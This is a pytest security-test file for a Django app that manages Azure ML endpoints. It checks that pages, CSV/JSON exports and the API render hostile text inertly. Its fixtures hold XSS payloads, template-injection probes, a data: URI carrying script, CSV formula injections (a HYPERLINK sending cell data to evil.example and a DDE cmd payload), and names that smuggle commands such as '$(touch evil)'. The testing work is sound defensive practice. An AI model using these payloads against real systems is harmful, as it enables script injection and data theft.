"""Texts of people and of Azure are text: on every page, in files and in JSON, whatever is written in them."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from urllib.parse import urlsplit

import pytest
from django.test import Client

from endpoints.access import services as access
from endpoints.access.models import User, Workspace
from endpoints.access.roles import WORKSPACE_ROLES
from endpoints.audit.actors import SYSTEM_COMMAND
from endpoints.changes.selectors import change_detail
from endpoints.changes.services import approve_change, request_change, start_change
from endpoints.inventory.models import Endpoint
from endpoints.web.exports import csv_cell
from tests.support.load import serve
from tests.support.people import PASSWORD, browser, make_endpoint, make_person, principal
from tests.web.reading import Page, read

EVIL = (
    "</textarea></title></script><script>window.evil=1</script><img src=x onerror=evil()>"
    "\"'><svg/onload=evil()> {{7*7}} {%x%} javascript:evil() \u202e\u2066\U0001f680&amp;&lt;b&gt;"
)
LONG = "<b>" + "x" * 254 + "</b>"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
# In Azure everybody with write access to a workspace decides on these.
AZURE = {
    "tags": {"owner": EVIL, EVIL: LONG, "team": FORMULA, "=cmd|' /C calc'!A0": "+1"},
    "description": EVIL,
    "scoringUri": "javascript:evil()",
    "swaggerUri": "data:text/html,<script>evil()</script>",
    "location": EVIL,
    "kind": EVIL,
    "authMode": EVIL,
    "properties": {"note": EVIL, EVIL: EVIL},
}
DEPLOYMENT = {
    "model": f"azureml://{EVIL}",
    "environmentId": EVIL,
    "instanceType": EVIL,
    "description": EVIL,
    "tags": {EVIL: EVIL},
    "codeConfiguration": {"codeId": EVIL, "scoringScript": EVIL},
}


@dataclass
class World:
    """Everything that can be looked at, written by somebody who means harm."""

    client: Client
    endpoint: Endpoint
    number: int

    @property
    def addresses(self) -> list[str]:
        home = f"/w/{self.endpoint.workspace.slug}/e/{self.endpoint.name}/"
        change = f"/changes/CR-{self.number}"
        return [
            "/fleet", f"/fleet?q={FORMULA}", f"/w/{self.endpoint.workspace.slug}/", home, f"{home}change/new",
            f"{home}rollback", "/changes?state=open", change, f"{change}?unchanged=1", f"{change}/edit",
            f"{change}/live", "/audit", *(f"/audit/{seq}" for seq in range(1, 14)), "/settings/workspaces",
            "/settings/profile", "/settings/tokens", "/help", "/changes/CR-999", "/no/such/page",
        ]  # fmt: skip


@pytest.fixture
def world(workspace: Workspace) -> World:
    people = {
        name: User.objects.get(
            pk=access.add_user(
                actor=SYSTEM_COMMAND, username=name, display_name=f"{name} <script>evil()</script>\"'",
                password=PASSWORD,
            )
        )
        for name in ("rosa", "vera", "omar")
    }  # fmt: skip
    for user in people.values():
        for role in sorted(WORKSPACE_ROLES):
            access.add_grant(
                actor=SYSTEM_COMMAND, user_id=user.pk, role=role, workspace_id=workspace.pk, reason=EVIL
            )
    endpoint = make_endpoint(workspace, deployments={"blue": DEPLOYMENT, "green": {}}, **AZURE)
    make_endpoint(
        workspace, traffic={"blue": 60, "green": 40}, deployments={"blue": {}, "green": DEPLOYMENT}, **AZURE
    )
    serve(endpoint.pk)
    rosa, vera = principal(people["rosa"]), principal(people["vera"])
    number = request_change(
        principal=rosa, endpoint_id=endpoint.pk, split={"green": 100}, reason=f"{EVIL} {LONG}"
    )
    asked = change_detail(vera, number)
    seen, accept = asked.content_hash, [check.name for check in asked.checks if check.needs_acceptance]
    approve_change(principal=vera, change_id=number, seen_hash=seen, comment=FORMULA + EVIL, accept=accept)
    access.create_token(principal=rosa, name="<script>evil()</script>", scopes=["read"], days=1)
    return World(browser(people["rosa"]), endpoint, number)


def harm_in(page: Page) -> list[str]:
    """What a browser would run, load or follow that is not ours."""
    found = [
        f"<script>{one.text}"
        for one in page.all("script")
        if one.text or "/static/" not in one.attributes["src"]
    ]
    found += [
        one.tag for one in page.elements if one.tag in ("iframe", "object", "embed", "base", "style", "img")
    ]
    for one in page.elements:
        for name, value in one.attributes.items():
            if name.startswith("on") or name in ("style", "srcdoc"):
                found.append(f"{one.tag} {name}={value}")
            if name in ("href", "src", "action", "formaction") and urlsplit(value).scheme not in (
                "",
                "https",
            ):
                found.append(f"{one.tag} {name}={value}")
    return found


def test_pages__about_hostile_texts__run_and_follow_nothing(world: World) -> None:
    shown = 0
    for address in world.addresses:
        answer = world.client.get(address)
        assert answer.status_code in (200, 404), address
        assert harm_in(read(answer.content)) == [], address
        assert "script-src 'self'" in answer["Content-Security-Policy"], address
        assert b"49" not in answer.content.split(b"{{7*7}}")[0][-3:]
        shown += answer.content.count(b"window.evil=1")
    assert shown > 5  # the texts are there, as text


def test_live_page__about_hostile_texts__runs_nothing(world: World) -> None:
    omar = User.objects.get(username="omar")
    seen = change_detail(principal(omar), world.number).content_hash
    start_change(principal=principal(omar), change_id=world.number, seen_hash=seen)
    for headers in ({}, {"HX-Request": "true"}):
        answer = world.client.get(f"/changes/CR-{world.number}/live", headers=headers)
        assert answer.status_code == 200
        assert harm_in(read(answer.content)) == []


@pytest.mark.parametrize("address", ["/fleet", "/changes?state=open", "/audit"])
def test_export__of_hostile_texts__is_no_formula_and_no_markup(world: World, address: str) -> None:
    mark = "&" if "?" in address else "?"
    answer = world.client.get(f"{address}{mark}format=csv")
    assert answer["Content-Type"] == "text/csv; charset=utf-8"
    assert answer["Content-Disposition"].startswith("attachment; ")
    assert answer["X-Content-Type-Options"] == "nosniff"
    rows = list(csv.reader(io.StringIO(answer.content.decode("utf-8-sig"))))
    assert len(rows) > 1
    assert {len(row) for row in rows} == {len(rows[0])}
    for cell in (cell for row in rows[1:] for cell in row):
        assert not cell.lstrip().startswith(("=", "+", "-", "@", "\uff1d"))
    as_json = world.client.get(f"{address}{mark}format=json")
    assert as_json["Content-Type"] == "application/json"
    assert as_json["X-Content-Type-Options"] == "nosniff"
    assert as_json.json()["count"] == len(rows) - 1


@pytest.mark.parametrize("blank", ["", " ", "\u00a0", "\ufeff"])
@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20"]
)
def test_cell__that_a_spreadsheet_would_run__begins_with_an_apostrophe(blank: str, start: str) -> None:
    """Some spreadsheets drop white space, and take the wide forms of East Asian input for the narrow ones."""
    assert csv_cell(f"{blank}{start}1") == f"'{blank}{start}1"


def test_api__about_hostile_texts__says_them_as_json(world: World) -> None:
    name = f"/api/v1/workspaces/{world.endpoint.workspace.slug}/endpoints/{world.endpoint.name}"
    answer = world.client.get(name)
    assert answer["Content-Type"] == "application/json"
    assert answer["X-Content-Type-Options"] == "nosniff"
    assert answer.json()["tags"]["owner"] == EVIL
    change = world.client.get(f"/api/v1/changes/{world.number}").json()
    assert any(str(note.get("text", "")).startswith(EVIL) for note in change["said"])


@pytest.mark.parametrize("name", ["..", "x' onclick=evil() \"", "$(touch evil)", "x" * 300, "\u202efdp.exe"])
def test_name__that_azure_never_gives__spoils_no_page(name: str, workspace: Workspace) -> None:
    everybody = make_person("max", {workspace.slug: sorted(WORKSPACE_ROLES)})
    make_endpoint(workspace, "good-one")
    make_endpoint(workspace, name, traffic={"blue": 100}, deployments=("blue",))
    answer = browser(everybody).get("/fleet")
    assert answer.status_code == 200
    assert b"good-one" in answer.content
    assert harm_in(read(answer.content)) == []
